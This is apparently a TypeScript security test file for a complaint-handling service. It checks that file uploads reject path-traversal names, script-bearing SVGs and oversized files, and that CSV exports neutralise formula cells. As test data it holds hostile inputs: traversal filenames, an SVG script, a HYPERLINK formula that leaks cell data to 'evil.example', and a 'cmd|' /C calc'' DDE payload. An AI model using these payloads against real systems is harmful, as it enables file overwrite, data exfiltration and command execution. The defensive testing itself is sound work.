import { existsSync, readdirSync } from 'node:fs';
import { join, relative } from 'node:path';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { complaintBody, fileCase } from '../../helpers/cases.ts';
import {
  expectNothingKept,
  resetEvidence,
  startEvidenceWorld,
  storedObjects,
  upload,
  uploadRaw,
  type EvidenceWorld,
} from '../../helpers/evidence.ts';
import { startTestServer, type TestServer } from '../../helpers/server.ts';
import { createUser, type TestUser } from '../../helpers/users.ts';

// ASVS 12.1.1 / 12.2.1 / 12.3.1 / 12.5.2 (upload size, type from content, names, serving),
// 5.3.x / OWASP CSV injection (formula cells in exports).

function everyFile(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) =>
    entry.isDirectory() ? everyFile(join(dir, entry.name)) : [join(dir, entry.name)],
  );
}

describe('security: uploaded files (ASVS V12)', () => {
  let w: EvidenceWorld;
  before(async () => {
    w = await startEvidenceWorld('fs');
  });
  after(() => w.t.stop());
  beforeEach(() => resetEvidence(w.t));

  it('writes nothing outside its store for names that are paths, encoded or not', async () => {
    const c = await fileCase(w.t, w.complainant);
    const res = await uploadRaw(w.t, w.complainant, c.id, [
      { name: 'x', encodedName: '..%2F..%2F..%2Fescaped-one.txt', content: Buffer.from('one\n') },
      { name: '/tmp/escaped-two.txt', content: Buffer.from('two\n') },
      { name: 'C:\\escaped-three.txt', content: Buffer.from('three\n') },
      { name: 'x', encodedName: '%2e%2e%5c%2e%2e%5cescaped-four.txt', content: Buffer.from('4\n') },
    ]);
    expect(res.status, JSON.stringify(res.body)).to.equal(201);
    const names = (res.body.items as { originalName: string }[]).map((i) => i.originalName);
    expect(names).to.deep.equal([
      'escaped-one.txt',
      'escaped-two.txt',
      'escaped-three.txt',
      'escaped-four.txt',
    ]);
    for (const name of names) expect(name).not.to.match(/[/\\]|^\.\./);
    // Stored under their sha256 only; nothing new anywhere else.
    const store = w.t.server.config.uploadDir;
    for (const file of everyFile(store).filter((f) => !f.includes('.tmp'))) {
      expect(relative(store, file)).to.match(/^[0-9a-f]{2}\/[0-9a-f]{2}\/[0-9a-f]{64}$/);
    }
    expect(everyFile(w.t.tempDir).filter((f) => /escaped/.test(f))).to.deep.equal([]);
    for (const outside of ['/tmp/escaped-two.txt', join(store, '..', '..', 'escaped-one.txt')]) {
      expect(existsSync(outside), outside).to.equal(false);
    }
  });

  for (const [what, prefix] of [
    ['', ''],
    [' behind a BOM and blank lines', '\ufeff\n\n  '],
  ] as const) {
    it(`refuses an SVG with a script${what}, declared as an image (415), keeping nothing`, async () => {
      const c = await fileCase(w.t, w.complainant);
      const svg = Buffer.from(
        `${prefix}<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
      );
      const res = await upload(w.t, w.complainant, c.id, [
        { name: 'chart.svg', content: svg, type: 'image/svg+xml' },
      ]);
      expect(res.status, JSON.stringify(res.body)).to.equal(415);
      await expectNothingKept(w.t, c.id);
    });
  }

  it('refuses a file past the per-file limit declared as something small (413), keeping nothing', async () => {
    const c = await fileCase(w.t, w.complainant);
    const big = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(300 * 1024, 0x41)]);
    const res = await upload(w.t, w.complainant, c.id, [
      { name: 'small.pdf', content: big, type: 'application/pdf' },
    ]);
    expect(res.status).to.equal(413);
    await expectNothingKept(w.t, c.id);
    expect(await storedObjects(w.t)).to.deep.equal([]);
  });
});

describe('security: formula cells in CSV exports (CSV injection)', () => {
  let t: TestServer;
  let complainant: TestUser;
  let compliance: TestUser;

  before(async () => {
    t = await startTestServer();
    complainant = await createUser(t, 'complainant');
    compliance = await createUser(t, 'compliance');
  });
  after(() => t.stop());

  const PREFIXES = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
  const DANGEROUS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

  it('neutralises every text cell that a spreadsheet would run as a formula', async () => {
    for (const prefix of PREFIXES) {
      const payload = `${prefix}HYPERLINK("http://evil.example/?"&A1,"x")`;
      await t.http
        .post('/api/v1/cases')
        .set(complainant.auth)
        .send(
          complaintBody({
            narrative: payload,
            desiredOutcome: `${prefix}cmd|' /C calc'!A0`,
            respondent: { name: `${prefix}SUM(1+1)`, kind: 'merchant' },
            transaction: {
              occurredAt: '2026-11-01T10:00:00Z',
              reference: `${prefix}1+1`,
              amount: { amountMinor: 100, currency: 'CNY' },
            },
          }),
        )
        .expect(201);
    }
    // Tabs and carriage returns are trimmed from the fields on the way in; one inside stays.
    await t.http
      .post('/api/v1/cases')
      .set(complainant.auth)
      .send(complaintBody({ narrative: '\t=1+1', desiredOutcome: '\r\n@SUM(A1)' }))
      .expect(201);

    const res = await t.http.get('/api/v1/exports/cases?format=csv').set(compliance.auth);
    expect(res.status).to.equal(200);
    const rows = parse(res.text, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows.length).to.be.at.least(PREFIXES.length + 1);
    let neutralised = 0;
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        expect(cell, `${column}: ${cell}`).not.to.match(DANGEROUS);
        if (/^'[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)) neutralised++;
      }
    }
    // Four fields a case, at least, on every case's row.
    expect(neutralised).to.be.at.least(PREFIXES.length * 4);
    const plain = rows.find((row) => row.narrative === `'=1+1`);
    expect(plain, 'the trimmed narrative, neutralised').to.not.equal(undefined);
  });
});
